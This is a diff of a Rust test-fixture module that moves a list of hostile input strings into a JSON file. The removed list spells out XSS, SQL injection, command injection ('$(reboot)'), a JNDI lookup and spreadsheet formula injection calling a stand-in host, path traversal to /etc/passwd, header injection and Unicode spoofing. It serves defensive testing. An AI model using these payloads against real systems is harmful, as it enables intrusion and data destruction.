@@ -1,8 +1,13 @@
-//! Texts that are out to break something: each is only text, wherever it is shown.
+//! Texts that are out to break something: each is only text, wherever it is shown. The browser tests read the same file.
+
+use std::collections::BTreeMap;
 
 /// Of every kind we know.
 pub fn texts() -> Vec<String> {
-    let mut texts: Vec<String> = PLAIN.iter().map(|text| (*text).to_owned()).collect();
+    let kinds: BTreeMap<String, Vec<String>> =
+        serde_json::from_str(include_str!("../fixtures/hostile.json"))
+            .expect("texts by their kinds");
+    let mut texts: Vec<String> = kinds.into_values().flatten().collect();
     texts.extend([
         "a".repeat(4_999),
         "ộ".repeat(5_000),
@@ -18,80 +23,3 @@ pub fn texts() -> Vec<String> {
     ]);
     texts
 }
-
-const PLAIN: &[&str] = &[
-    // Markup
-    "<script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
-    "' onmouseover='alert(1)' x='",
-    "<svg/onload=alert(1)>",
-    "<a href=\"javascript:alert(1)\">bấm</a>",
-    "&lt;b&gt; &amp;amp; &#x3c;i&#x3e;",
-    "<!-- --><![CDATA[ ]]>",
-    "</p></article></body></html>",
-    "<style>body{display:none}</style>",
-    "<meta http-equiv=refresh content=0;url=//thu.example>",
-    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
-    "]]>'\"`-->",
-    // Databases
-    "' OR '1'='1",
-    "'; DROP TABLE comments; --",
-    "\\'; SELECT pg_sleep(10); --",
-    "%' ESCAPE '!' --",
-    "$1 ? :id @id $$x$$",
-    "\\x00 \\u0000 E'\\047'",
-    "NULL",
-    "\u{0}",
-    "trước\u{0}sau",
-    // Formats and shells
-    "%s%s%s%n %x %d {} {0} {:?}",
-    "$(reboot) `reboot` ; reboot | reboot && reboot",
-    "${jndi:ldap://thu.example/x}",
-    "=HYPERLINK(\"http://thu.example\",\"x\")",
-    "+1+cmd|' /C calc'!A0",
-    "../../../../etc/passwd",
-    "..\\..\\windows\\system32",
-    "file:///etc/passwd",
-    "data:text/html,<script>alert(1)</script>",
-    // Headers and mail
-    "Lan\r\nBcc: nan-nhan@thu.example",
-    "Lan\nSet-Cookie: a=b",
-    "Lan%0d%0aLocation: //thu.example",
-    ".\r\nMAIL FROM:<a@thu.example>",
-    "=?utf-8?b?PHNjcmlwdD4=?=",
-    // Unicode
-    "\u{202e}txt.exe\u{202c}",
-    "\u{2066}đảo\u{2069} \u{200f}ngược",
-    "مرحبا بالعالم",
-    "שלום עולם",
-    "z̷̨͔̝̈́̿a̴͓̓l̶̰̈́g̵̟̎o̷̬͝",
-    "Nguye\u{302}\u{303}n Va\u{306}n A",
-    "\u{feff}bom đầu dòng",
-    "ze\u{200b}ro\u{200d}wi\u{2060}dth",
-    "а́дмин ɑdmin аdmin",
-    "ｆｕｌｌ　ｗｉｄｔｈ",
-    "𝕭𝖆̂𝖓 𝒷𝒶̂𝓃",
-    "😀👍🏽🇻🇳👩‍🚀",
-    "\u{fffd}\u{fffe}\u{ffff}",
-    "\u{e000}\u{f8ff}",
-    "\u{10ffff}",
-    "\u{1}\u{2}\u{7f}\u{85}\u{9f}",
-    "\u{2028}dòng\u{2029}đoạn",
-    "\t\u{b}\u{c}tab",
-    "ﷺ﷽",
-    "İıŞşǅ",
-    "a\u{300}\u{316}\u{301}\u{317}",
-    // Numbers and nothings
-    "",
-    " ",
-    "0",
-    "-1",
-    "1e309",
-    "undefined",
-    "[object Object]",
-    "true",
-    "\\",
-    "\"",
-    "'",
-];
